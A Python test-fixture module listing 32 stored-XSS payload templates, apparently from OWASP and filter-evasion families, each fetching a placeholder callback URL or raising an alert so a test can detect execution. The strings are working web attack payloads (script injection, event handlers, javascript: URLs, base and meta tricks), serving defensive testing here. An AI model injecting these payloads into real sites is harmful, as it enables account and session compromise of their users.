"""Known stored-XSS payload shapes (OWASP cheat sheet and common filter-evasion families), each
calling back to a local listener or opening a dialog if it ever runs, for the stored-XSS test."""

from __future__ import annotations

VECTORS = (
    "<script>fetch('{cb}/s{n}')</script>",
    "<img src=x onerror=\"fetch('{cb}/i{n}')\">",
    "<svg onload=\"fetch('{cb}/v{n}')\">",
    '"><script src="{cb}/j{n}"></script>',
    "'><img src=x onerror=alert({n})>",
    "<iframe src=\"javascript:fetch('{cb}/f{n}')\"></iframe>",
    "<a href=\"javascript:fetch('{cb}/a{n}')\">click</a>",
    "<body onload=fetch('{cb}/b{n}')>",
    "</textarea><script>alert({n})</script>",
    "{{{{7*7}}}}<script>alert({n})</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert({n})>",
    "<details open ontoggle=\"fetch('{cb}/d{n}')\">",
    "<input autofocus onfocus=\"fetch('{cb}/o{n}')\">",
    '<object data="{cb}/ob{n}"></object>',
    '<link rel=stylesheet href="{cb}/l{n}">',
    '<meta http-equiv="refresh" content="0;url={cb}/m{n}">',
    '"-alert({n})-"',
    "</script><script>alert({n})</script>",
    '<base href="{cb}/"><script src="b{n}.js"></script>',
    "<style>@import '{cb}/st{n}';</style>",
    '<div style="background:url({cb}/bg{n})">x</div>',
    "<video><source onerror=\"fetch('{cb}/vs{n}')\"></video>",
    '<form action="{cb}/fm{n}"><button autofocus>x</button></form>',
    "javascript:fetch('{cb}/u{n}')",
    '<noscript><p title="</noscript><img src=x onerror=alert({n})>">',
    "<IMG SRC=JaVaScRiPt:alert({n})>",
    "<scr<script>ipt>alert({n})</scr</script>ipt>",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    '" onmouseover="alert({n})" x="',
    "<svg><script>alert({n})</script></svg>",
    "<template><img src=x onerror=alert({n})></template>",
    '<embed src="{cb}/e{n}">',
)


def payload(i: int, callback: str) -> str:
    return VECTORS[i % len(VECTORS)].format(cb=callback, n=i)
